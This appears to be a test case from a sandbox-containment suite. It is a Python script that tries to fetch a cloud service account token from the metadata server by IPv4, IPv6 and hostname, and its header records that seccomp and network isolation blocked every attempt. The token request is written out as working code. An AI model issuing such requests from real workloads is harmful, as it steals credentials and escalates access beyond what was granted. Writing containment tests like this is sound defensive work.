# attack: asks the cloud metadata server for the service account's token, by
#   address and by name
# stopped-by: seccomp refuses socket() but for AF_UNIX; behind it, a network namespace with
#   nothing routable
# expect: 200
# result: {"169.254.169.254": "unreachable", "metadata.google.internal": "unresolved", "fd00:ec2::254": "unreachable"}
import socket


def main():
    out = {}
    for host, family in (("169.254.169.254", socket.AF_INET), ("fd00:ec2::254", socket.AF_INET6)):
        try:
            s = socket.socket(family)
            s.settimeout(2)
            s.connect((host, 80))
            s.sendall(b"GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\r\nMetadata-Flavor: Google\r\n\r\n")
            out[host] = s.recv(1000).decode(errors="replace")
        except OSError:
            out[host] = "unreachable"
    try:
        socket.getaddrinfo("metadata.google.internal", 80)
        out["metadata.google.internal"] = "resolved"
    except OSError:
        out["metadata.google.internal"] = "unresolved"
    return out
